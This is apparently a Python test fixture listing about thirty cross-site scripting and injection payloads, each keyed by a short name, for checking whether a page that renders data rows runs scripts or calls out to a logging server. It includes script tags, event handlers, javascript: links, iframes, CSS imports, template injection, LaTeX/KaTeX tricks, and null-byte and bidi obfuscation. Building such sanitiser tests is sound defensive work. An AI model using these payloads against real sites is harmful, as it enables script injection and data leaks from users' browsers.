"""What a row may hold to run a script in the page that shows it, or to have the page ask somebody else. `{url}` is a
server that notes who asks; a script that runs sets `window.ran`."""

RAN = "window.top.ran=1"

ATTACKS = {
    "a script": f"<script>{RAN}</script>",
    "a script from elsewhere": '<script src="{url}/script"></script>',
    "an event handler": f'<img src="{{url}}/img" onerror="{RAN}">',
    "a drawing that loads": f'<svg onload="{RAN}"><script>{RAN}</script></svg>',
    "a drawing that animates": f'<svg><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
    "a field that takes the focus": f'<input autofocus onfocus="{RAN}">',
    "a fold that opens": f'<details open ontoggle="{RAN}">x</details>',
    "a link to a script": f'<a href="javascript:{RAN}">click</a> [click](javascript:{RAN})',
    "a link to data": f'<a href="data:text/html,<script>{RAN}</script>">click</a>',
    "a frame": '<iframe src="{url}/frame"></iframe>',
    "a frame with its own text": f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
    "a style that imports": "<style>@import url({url}/style);</style>",
    "a style in place": '<p style="background:url({url}/background)">x</p>',
    "a sheet": '<link rel="stylesheet" href="{url}/sheet">',
    "a refresh": '<meta http-equiv="refresh" content="0;url={url}/refresh">',
    "an object": '<object data="{url}/object"></object><embed src="{url}/embed">',
    "another base": '<base href="{url}/">',
    "a form": '<form action="{url}/form"><button autofocus>x</button></form><script>forms[0].submit()</script>',
    "an end of what it stands in": f'</pre></code></textarea></title>"\'><script>{RAN}</script>',
    "entities": f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;script&#62;{RAN}&#60;/script&#62;",
    "a template": "{{ 7*'7' }} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %} ${7*7}",
    "a picture in markdown": "![x]({url}/markdown) <noscript><p title='</noscript><img src={url}/noscript>'>",
    "math that links": f"$\\href{{javascript:{RAN}}}{{x}}$ and $\\href{{{{url}}/href}}{{y}}$",
    "math that names an address": "$\\url{{url}/url}$ $\\includegraphics{{url}/graphics.png}$",
    "math with attributes": f"$\\htmlStyle{{background:url({{url}}/math)}}{{x}}$ $\\htmlData{{x=onclick={RAN}}}{{y}}$",
    "math that never ends": "$\\def\\x{\\x\\x}\\x$ $\\rule{99999em}{99999em}$",
    "math with markup": f"\\(x<img src=x onerror={RAN}>\\) \\[\\text{{<script>{RAN}</script>}}\\]",
    "a program": f"```python\nprint('</code></pre><script>{RAN}</script>')\n```",
    "a language": f'```python"onmouseover="{RAN}\nx = 1\n```',
    "markup of math": f'<math><maction actiontype="statusline" xlink:href="javascript:{RAN}">x</maction></math>',
    "a null and a turn": f"\x00<scr\x00ipt>{RAN}</script>\u202e<b>",
}  # fmt: skip


def attacks(url: str) -> dict[str, str]:
    return {name: text.replace("{url}", url) for name, text in ATTACKS.items()}
